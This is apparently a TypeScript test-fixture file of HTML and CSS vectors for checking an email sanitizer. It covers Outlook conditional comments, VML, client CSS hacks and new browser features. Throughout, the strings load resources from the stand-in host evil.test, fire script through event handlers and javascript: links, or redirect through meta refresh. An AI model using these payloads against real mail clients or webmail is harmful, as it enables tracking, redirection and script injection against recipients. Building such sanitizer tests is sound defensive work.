/** Html as clients of mail have it, and what is new in browsers: loading, leading away, or being seen elsewhere. */

const EVIL = 'http://evil.test/load';

/** Conditional comments, VML and other words of Outlook, Apple and Gmail. */
const CLIENTS = [
  `<!--[if mso]><img src=${EVIL}><![endif]-->x`,
  `<!--[if !mso]><!--><img src=${EVIL}><!--<![endif]-->x`,
  `<!--[if true]><script>hit()</script><![endif]-->`,
  `<![if !vml]><img src=${EVIL} onerror=hit()><![endif]>`,
  `<!--[if gte mso 9]><xml><o:OfficeDocumentSettings onload=hit()></xml><![endif]--><p>x`,
  `<v:rect style="behavior:url(#default#VML);width:9px;height:9px"><v:fill type=frame src="${EVIL}"/></v:rect>`,
  `<html xmlns:v="urn:schemas-microsoft-com:vml"><v:image src="${EVIL}"></v:image><v:background><v:fill src=${EVIL} /></v:background>`,
  `<v:roundrect href="javascript:hit()" fillcolor=red><w:anchorlock/>x</v:roundrect>`,
  `<p style="mso-hide:all;mso-element:para-border-div;background:url(${EVIL})">x</p>`,
  `<style>@page WordSection1{background:url(${EVIL})} div.WordSection1{page:WordSection1;position:fixed;inset:0}</style><div class=WordSection1>x</div>`,
  `<style>u + .body .x{position:fixed;inset:0;background:url(${EVIL})} .ExternalClass *{margin:-999px}</style><p class=x>x</p>`,
  `<style>#MessageViewBody a{background:url(${EVIL})} #outlook a{padding:0;background:url(${EVIL})}</style><div id=outlook><a>x</a></div>`,
  `<style>@media yahoo{.x{background:url(${EVIL})}} @media screen and (-webkit-min-device-pixel-ratio:0){.x{background:url(${EVIL})}}</style><p class=x>x`,
  `<style>@media (prefers-color-scheme:light){body,.x{background:url(${EVIL})!important}}</style><p class=x>x`,
  `<style>[data-ogsc] .x,[data-ogsb] .x,[owa] .x,.x{background-image:url(${EVIL})}</style><p class=x>x`,
  `<meta name="x-apple-disable-message-reformatting"><meta http-equiv=refresh content="0;url=${EVIL}">x`,
  `<meta name=color-scheme content=dark><meta name=theme-color content=red><meta name=viewport content="width=9">x`,
  `<a x-apple-data-detectors=true href="tel:1" onclick=hit()>x</a><a href="sms:1&body=x">x</a>`,
  `<table background=${EVIL}><tr background=${EVIL}><td background="${EVIL}" width=9>x<th background=${EVIL}>x</table>`,
  `<body background=${EVIL} bgproperties=fixed topmargin=-900 leftmargin=-900 onload=hit()>x`,
  `<img src=cid:none@x lowsrc=${EVIL} dynsrc=${EVIL} longdesc=${EVIL} usemap="#m" ismap><map name=m><area href="javascript:hit()" coords="0,0,99,99"></map>`,
  `<script type="application/ld+json">{"@context":"${EVIL}"}</script><div itemscope itemtype=${EVIL}><link itemprop=x href=${EVIL}></div>`,
  `<amp-img src=${EVIL}></amp-img><script async src=${EVIL}></script><amp-form action-xhr=${EVIL}></amp-form>`,
  `<form action=${EVIL}><input name=q autofocus onfocus=hit()><button>x</button></form><input form=x formaction=${EVIL} type=image src=${EVIL}>`,
  `<font size=7 face="x;background:url(${EVIL})" color="red;position:fixed">x</font><hr width=99999 size=99999 color=red>`,
  `<marquee behavior=alternate scrollamount=900 width=9999 onstart=hit()>x</marquee><blink>x</blink>`,
  `<p style="cursor:url(${EVIL}),auto;list-style:square url(${EVIL})">x</p><li style="list-style-image:url(${EVIL})">x`,
  `<td style="background:#fff url(${EVIL}) no-repeat 0 0 / cover">x</td><div style='background:url("${EVIL}")' background=${EVIL}>x</div>`,
];

/** What has come to browsers of late. */
const NEW = [
  `<button interestfor=app>x</button><a href="#x" interestfor=app>x</a><div id=app popover=hint>x</div>`,
  `<button commandfor=app command=toggle-popover>x</button><button commandfor=host command=--x>x</button>`,
  `<select><button><selectedcontent></selectedcontent></button><option><img src=${EVIL}></option></select>`,
  `<style>select,::picker(select){appearance:base-select;background:url(${EVIL})}</style><select><option>x</select>`,
  `<search><img is=x-y src=${EVIL} onerror=hit()></search><p is=app-root part=x exportparts="x:y" nonce=x inert>x</p>`,
  `<style>@view-transition{navigation:auto} ::view-transition,::view-transition-group(*){background:url(${EVIL})} *{view-transition-name:x}</style><p>x`,
  `<style>p{scroll-timeline:--x;animation:a 1s linear both;animation-timeline:--x} @keyframes a{to{background:url(${EVIL})}}</style><p>x`,
  `<style>@font-palette-values --x{font-family:y} @font-feature-values x{@styleset{y:1}} p{font:1em x} @font-face{font-family:x;src:local(y),url(${EVIL})}</style><p>x`,
  `<style>@function --x(){result:url(${EVIL})} p{background:--x()}</style><p>x`,
  `<style>@property --x{syntax:"<image>";inherits:true;initial-value:url(${EVIL})} p{background:var(--x)}</style><p>x`,
  `<style>p{&{background:url(${EVIL})} :root &{background:url(${EVIL})} @media all{background:url(${EVIL})}}</style><p>x`,
  `<style>p::scroll-button(*),p::scroll-marker,p::column,p::checkmark{content:url(${EVIL})}</style><p style="overflow:auto;scroll-marker-group:after">x`,
  `<style>@position-try --x{inset:0} p{position:fixed;position-try:--x;position-area:center;anchor-name:--y}</style><p>x`,
  `<style>p{corner-shape:squircle;interpolate-size:allow-keywords;reading-flow:grid-rows;inset-area:all;position:absolute}</style><p>x`,
  `<p style="background:image-set('${EVIL}' 1x type('image/png'));mask:url(${EVIL}#x);border-shape:url(${EVIL})">x</p>`,
  `<p style="background-image:ident(url(${EVIL}));color:contrast-color(red);width:sibling-index()">x</p>`,
  `<link rel=expect href="#x" blocking=render><link rel=preload as=image imagesrcset="${EVIL} 1x"><link rel=modulepreload href=${EVIL}>`,
  `<img src=x fetchpriority=high loading=eager srcset="${EVIL} 1w" sizes=auto><picture><source srcset="${EVIL}" media=all><img></picture>`,
  `<video poster=${EVIL} src=${EVIL} autoplay muted><track src=${EVIL} default></video><audio src=${EVIL} autoplay></audio>`,
  `<details name=x open ontoggle=hit()><summary>x</summary><img src=${EVIL}></details><dialog open closedby=any style="position:fixed">x</dialog>`,
  `<p oncontentvisibilityautostatechange=hit() style="content-visibility:auto">x</p><p onscrollsnapchange=hit() onbeforematch=hit() hidden=until-found>x</p>`,
  `<iframe srcdoc="<img src=${EVIL}>" loading=eager></iframe><fencedframe src=${EVIL}></fencedframe><portal src=${EVIL}></portal><embed src=${EVIL}><object data=${EVIL}></object>`,
  `<template shadowrootmode=open shadowrootclonable><slot></slot><img src=${EVIL} onerror=hit()></template><p slot=x>x</p>`,
  `<a href="#" download=x ping=${EVIL} attributionsrc=${EVIL} target=_top>x</a><a href="view-source:${EVIL}">x</a>`,
];

export const MAIL_VECTORS: readonly string[] = [...CLIENTS, ...NEW].flatMap((html) => [
  html,
  `<div><table><tr><td>${html}</table></div>`,
  `</p></div></td></table>${html}<p>x</p>`,
]);
